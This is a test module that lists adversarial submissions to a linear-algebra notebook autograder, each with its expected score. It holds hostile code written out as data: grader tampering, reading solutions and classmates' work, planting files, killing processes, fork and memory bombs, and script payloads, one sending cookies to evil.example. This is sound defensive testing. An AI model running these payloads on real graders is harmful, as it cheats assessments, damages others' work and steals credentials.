"""A corpus of submissions to lab 01 that try to cheat, break or harm the grader, with the score each deserves.

Each `Submission` is built from the released student notebook (what a learner
really starts from). `expected_score` is the exact autograded score: honest work
keeps its points, tampering gains none. The written answer (2 points) is graded
by hand and never counts here, so full marks are 18.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from grader.cells import answer_cells, grade_id
from grader.course import ROOT, load_syllabus

MODULE = load_syllabus().module("01-linear-algebra")
FULL = 18.0
POINTS = {"pairwise_sq_distances": 3.0, "cosine_similarity_matrix": 3.0, "least_squares_svd": 4.0, "pca": 4.0,
          "low_rank_factors": 4.0}
DAEMON_TOKEN = "aie-adversarial-daemon-7f3c"


def solution_answers() -> dict[str, str]:
    nb = nbformat.read(MODULE.solution, as_version=4)
    return {grade_id(cell): cell.source for _, cell in answer_cells(nb)}


def released() -> nbformat.NotebookNode:
    return nbformat.read(MODULE.lab, as_version=4)


def with_answers(answers: dict[str, str], nb: nbformat.NotebookNode | None = None) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb or released())
    for cell in nb.cells:
        if grade_id(cell) in answers:
            cell.source = answers[grade_id(cell)]
    return nb


def correct(**replaced: str) -> nbformat.NotebookNode:
    """Every exercise answered correctly, except those replaced."""
    return with_answers({**solution_answers(), **replaced})


def only(**answers: str) -> nbformat.NotebookNode:
    """Only these exercises answered."""
    return with_answers(answers)


@dataclass(frozen=True)
class Submission:
    name: str
    category: str
    build: Callable[[], nbformat.NotebookNode | bytes | None]
    expected_score: float
    what: str

    def write(self, submitted: Path) -> Path:
        path = submitted / self.name / MODULE.id / "lab.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        content = self.build()
        if content is None:
            path.mkdir()  # a folder where the notebook should be
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            nbformat.write(content, path)
        return path


STUB_PAIRWISE = "def pairwise_sq_distances(A, B):\n    raise NotImplementedError()\n"


def _tamper(prefix: str) -> str:
    """An answer cell that tampers with something, then leaves the exercise unanswered."""
    return prefix + "\n" + STUB_PAIRWISE


def _always_equal() -> nbformat.NotebookNode:
    code = """
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.zeros(0)
def pairwise_sq_distances(A, B):
    return Anything(0.0)
"""
    return only(pairwise_sq_distances=code)


def _metadata_tampered() -> nbformat.NotebookNode:
    nb = correct()
    for cell in nb.cells:
        nbgrader = cell.metadata.get("nbgrader", {})
        nbgrader["schema_version"] = 99
        nbgrader["points"] = 1000
        cell.metadata["tags"] = ["skip-execution", "raises-exception"]
    return nb


def _tests_deleted_and_edited() -> nbformat.NotebookNode:
    nb = only(pairwise_sq_distances="def pairwise_sq_distances(A, B):\n    return 0\n")
    kept = []
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            if "pairwise" in grade_id(cell):
                cell.source = "pass"  # edit the locked test to do nothing
            else:
                continue  # delete every other test
        kept.append(cell)
    nb.cells = kept
    return nb


def _forged_outputs() -> nbformat.NotebookNode:
    nb = released()
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.execution_count = 1
            cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "All tests passed!"},
                                                   execution_count=1)]
    return nb


def _duplicated_grade_id() -> nbformat.NotebookNode:
    nb = only(pairwise_sq_distances="def pairwise_sq_distances(A, B):\n    return 0\n")
    first = next(c for c in nb.cells if grade_id(c) == "pairwise_sq_distances")
    twin = copy.deepcopy(first)
    twin.source = solution_answers()["pairwise_sq_distances"]
    twin.id = "twin-cell"
    nb.cells.insert(nb.cells.index(first) + 1, twin)
    return nb


def _reordered_and_retyped() -> nbformat.NotebookNode:
    nb = correct()
    nb.cells.reverse()
    for cell in nb.cells:
        if grade_id(cell) == "pca":
            cell.cell_type = "markdown"  # an answer that is no longer code is no answer
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return nb


def _not_nbformat4() -> bytes:
    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": []}], "metadata": {}}).encode()


def _huge() -> bytes:
    nb = correct()
    nb.cells[0].source = "x" * (50 * 1024**2)
    return nbformat.writes(nb).encode()


def _script_in_output() -> nbformat.NotebookNode:
    code = """
print("<script>alert('pwned')</script>")
def pairwise_sq_distances(A, B):
    raise ValueError("<script>document.location='http://evil.example/'+document.cookie</script>")
"""
    return only(pairwise_sq_distances=code)


def _read_and_exec(path_expression: str) -> str:
    """Answer by executing the instructor's solution read from disk, falling back to nothing."""
    return f"""
import json
try:
    notebook = json.load(open({path_expression}))
    for cell in notebook["cells"]:
        if "def pairwise_sq_distances" in "".join(cell["source"]):
            exec("".join(cell["source"]))
except Exception as error:
    print("could not read:", error)
"""


CORPUS: list[Submission] = [
    # Honest work keeps exactly its points.
    Submission("honest-correct", "honest", correct, FULL, "every exercise right"),
    Submission("honest-stub", "honest", released, 0.0, "nothing answered"),
    Submission("honest-" + "long-student-id-" * 7 + "x", "honest", correct, FULL,
               "every exercise right, from a student id of 120 characters (its socket path must still fit)"),
    Submission("honest-partial", "honest",
               lambda: only(pairwise_sq_distances=solution_answers()["pairwise_sq_distances"],
                            cosine_similarity_matrix="def cosine_similarity_matrix(A, B):\n    return A @ B.T\n"),
               3.0, "one right, one wrong (no normalisation)"),
    Submission("honest-correct-alternative", "honest",
               lambda: correct(pca="""
def pca(X, k):
    X = np.asarray(X, float)
    centred = X - X.mean(axis=0)
    values, vectors = np.linalg.eigh(centred.T @ centred)
    order = np.argsort(values)[::-1][:k]
    components = -vectors[:, order].T
    return components, centred @ components.T, values[order] / values.sum()
"""), FULL, "a different correct PCA with flipped signs"),
    # Checker tampering: nothing gained.
    Submission("patch-checks", "checker tampering", lambda: only(pairwise_sq_distances=_tamper("""
import aie.checks
for name in ("check_close", "check_equal", "check_shape", "check_raises"):
    setattr(aie.checks, name, lambda *args, **kwargs: None)
    globals()[name] = lambda *args, **kwargs: None
""")), 0.0, "replaces every check with a no-op"),
    Submission("patch-numpy", "checker tampering", lambda: only(pairwise_sq_distances=_tamper("""
np.isclose = lambda *args, **kwargs: np.True_
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.array_equal = lambda *args, **kwargs: True
""")), 0.0, "makes numpy's comparisons always succeed"),
    Submission("patch-assertionerror", "checker tampering", lambda: only(pairwise_sq_distances=_tamper("""
import builtins
builtins.AssertionError = type("Harmless", (Exception,), {})
builtins.NotImplementedError = type("Harmless2", (Exception,), {})
""")), 0.0, "swaps AssertionError and NotImplementedError"),
    Submission("always-equal", "checker tampering", _always_equal, 0.0, "returns an object equal to everything"),
    Submission("patch-recorder", "checker tampering", lambda: only(pairwise_sq_distances=_tamper("""
import aie.recording
from IPython.display import publish_display_data
def forged(kind, name, actual=None, *rest, **kwargs):
    publish_display_data({aie.recording.RECORD_MIME: {"kind": kind, "name": name,
                          "actual": aie.recording.encode(True)}})
aie.recording.record = forged
__aie_record__ = forged
globals()["__aie_record__"] = forged
""")), 0.0, "replaces the grader's recorder with one that reports success"),
    Submission("forge-records", "checker tampering", lambda: only(pairwise_sq_distances=_tamper("""
from IPython.display import publish_display_data
for name in ["pairwise_sq_distances.shape", "pairwise_sq_distances.values"]:
    publish_display_data({"application/vnd.aie.check+json": {"kind": "close", "name": name,
                          "actual": {"type": "array", "dtype": "float", "shape": [3, 2],
                                     "data": [0, 1, 2, 1, 25, 20]}}})
""")), 0.0, "publishes forged check records from an answer cell"),
    Submission("input-transformer", "checker tampering", lambda: only(pairwise_sq_distances=_tamper("""
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
""")), 0.0, "an IPython input transformer that blanks every later cell"),
    Submission("post-run-hook", "checker tampering", lambda: only(pairwise_sq_distances=_tamper("""
ip = get_ipython()
def hide(result):
    result.error_in_exec = None
ip.events.register("post_run_cell", hide)
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
""")), 0.0, "hooks that swallow every error"),
    Submission("settrace", "checker tampering", lambda: only(pairwise_sq_distances=_tamper("""
import sys, threading
sys.settrace(lambda *args: None)
threading.settrace(lambda *args: None)
sys.setprofile(lambda *args: None)
""")), 0.0, "installs tracing and profiling hooks"),
    # Reading hidden material.
    Submission("read-solution", "reading hidden material",
               lambda: only(pairwise_sq_distances=_read_and_exec(repr(str(MODULE.solution)))), 0.0,
               "executes the instructor's solution read from disk"),
    Submission("read-classmate", "reading hidden material",
               lambda: only(pairwise_sq_distances=_read_and_exec(
                   "(__import__('glob').glob('/tmp/**/honest-correct/*/lab.ipynb', recursive=True)"
                   f" + __import__('glob').glob({str(ROOT)!r} + '/submitted/honest-correct/*/lab.ipynb'))[0]")),
               0.0, "copies a classmate's submission from disk"),
    Submission("read-gradebook", "reading hidden material", lambda: only(pairwise_sq_distances=_tamper(f"""
import glob, sqlite3
for path in glob.glob({str(ROOT)!r} + "/**/*.db", recursive=True) + glob.glob("/tmp/**/*.db", recursive=True):
    print(path, sqlite3.connect(path).execute("select * from grade_cell").fetchall())
""")), 0.0, "looks for the gradebook to read hidden test ids"),
    Submission("network", "reading hidden material", lambda: only(pairwise_sq_distances=_tamper("""
import socket
for host in (("1.1.1.1", 80), ("127.0.0.1", 22)):
    try:
        socket.create_connection(host, timeout=2).close()
        print("reached", host)
    except OSError as error:
        print("no network:", error)
""")), 0.0, "reaches for the network"),
    # Writing outside the sandbox, and harming classmates.
    Submission("write-course", "writing outside", lambda: only(pairwise_sq_distances=_tamper(f"""
import os
for target in ({str(MODULE.solution)!r}, {str(MODULE.lab)!r}, {str(ROOT / 'gradebook.db')!r}, "/tmp/aie-owned"):
    try:
        with open(target, "w") as handle:
            handle.write("owned")
    except OSError as error:
        print("cannot write", target, error)
""")), 0.0, "overwrites the solutions, the release and the gradebook"),
    Submission("plant-modules", "writing outside", lambda: only(pairwise_sq_distances=_tamper("""
import os
for folder in (os.getcwd(), os.path.expanduser("~/.ipython/profile_default/startup")):
    os.makedirs(folder, exist_ok=True)
with open(os.path.join(os.getcwd(), "numpy.py"), "w") as handle:
    handle.write("raise SystemExit('planted numpy')")
with open(os.path.expanduser("~/.ipython/profile_default/startup/00-evil.py"), "w") as handle:
    handle.write("import os; os._exit(1)")
""")), 0.0, "plants numpy.py and an IPython startup file for the next kernels"),
    Submission("daemon", "writing outside", lambda: only(pairwise_sq_distances=_tamper(f"""
import subprocess
subprocess.Popen(["sh", "-c", "sleep 120 # {DAEMON_TOKEN}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""")), 0.0, "leaves a detached process behind to rewrite grades later"),
    Submission("poison-next-kernels", "writing outside", lambda: only(pairwise_sq_distances=_tamper("""
import glob, os, matplotlib, numpy
server = os.getppid()  # a fork server's kernel: the server forks the next students' kernels
targets = [f"/proc/{server}/fd/0", numpy.__file__, os.path.dirname(os.getcwd()) + "/../x"]
targets += glob.glob(matplotlib.get_cachedir() + "/*")
for target in targets:
    try:
        with open(target, "w") as handle:
            handle.write('{"op": "spawn"}')
    except OSError as error:
        print("cannot write", target, error)
numpy.allclose = lambda *args, **kwargs: True  # in this kernel only
""")), 0.0, "writes into the fork server's input, the font cache and numpy for the kernels after it"),
    Submission("signal-grader", "writing outside", lambda: correct(low_rank_factors="""
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(error)
def low_rank_factors(W, r):
    raise NotImplementedError()
"""), FULL - POINTS["low_rank_factors"], "signals its parent and PID 1 (the grader, it hopes)"),
    # Resource exhaustion: only the student's own later work is lost.
    Submission("infinite-loop-in-function", "resource exhaustion", lambda: correct(pca="""
def pca(X, k):
    while True:
        pass
"""), FULL - POINTS["pca"], "an answer that never returns"),
    Submission("uninterruptible-loop", "resource exhaustion", lambda: correct(low_rank_factors="""
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""), FULL - POINTS["low_rank_factors"], "a cell that ignores interrupts and loops forever"),
    Submission("memory-bomb", "resource exhaustion", lambda: correct(pca="""
hog = []
while True:
    hog.append(bytearray(256 * 1024**2))
"""), FULL - POINTS["pca"], "allocates until the memory limit"),
    Submission("fork-bomb", "resource exhaustion", lambda: correct(pca="""
import os, time
children = 0
try:
    for _ in range(10_000):
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError as error:
    print("stopped after", children, "forks:", error)
def pca(X, k):
    raise NotImplementedError()
"""), FULL - POINTS["pca"], "forks until the process limit"),
    Submission("huge-output", "resource exhaustion", lambda: correct(pca="""
print("x" * 100_000_000)
def pca(X, k):
    raise NotImplementedError()
"""), FULL - POINTS["pca"], "prints 100 MB on one line"),
    Submission("exit-early", "resource exhaustion", lambda: correct(least_squares_svd="""
import os
os._exit(0)
"""), POINTS["pairwise_sq_distances"] + POINTS["cosine_similarity_matrix"],
               "ends its own kernel half-way: keeps the points earned before"),
    # Malformed notebooks: a clear error and 0, and the batch goes on.
    Submission("not-json", "malformed notebook", lambda: b"{ this is not json", 0.0, "not JSON"),
    Submission("nbformat-3", "malformed notebook", _not_nbformat4, 0.0, "an nbformat 3 notebook"),
    Submission("no-cells", "malformed notebook", lambda: nbformat.v4.new_notebook(), 0.0, "no cells"),
    Submission("fifty-megabytes", "malformed notebook", _huge, 0.0, "a 50 MB notebook"),
    Submission("folder-not-file", "malformed notebook", lambda: None, 0.0, "a folder where the notebook should be"),
    # Metadata tampering: the trusted release decides what runs and what it is worth.
    Submission("metadata-tampered", "metadata tampering", _metadata_tampered, FULL,
               "schema version 99, 1000 points per cell, skip-execution tags"),
    Submission("tests-deleted-and-edited", "metadata tampering", _tests_deleted_and_edited, 0.0,
               "deletes or empties the locked test cells around a wrong answer"),
    Submission("forged-outputs", "metadata tampering", _forged_outputs, 0.0, "outputs that claim every test passed"),
    Submission("duplicated-grade-id", "metadata tampering", _duplicated_grade_id, 0.0,
               "two cells with one grade id: the first counts"),
    Submission("reordered-and-retyped", "metadata tampering", _reordered_and_retyped, FULL - POINTS["pca"],
               "cells reversed, one answer turned into markdown"),
    Submission("script-in-feedback", "feedback injection", _script_in_output, 0.0,
               "script tags in its output and in an error message"),
]
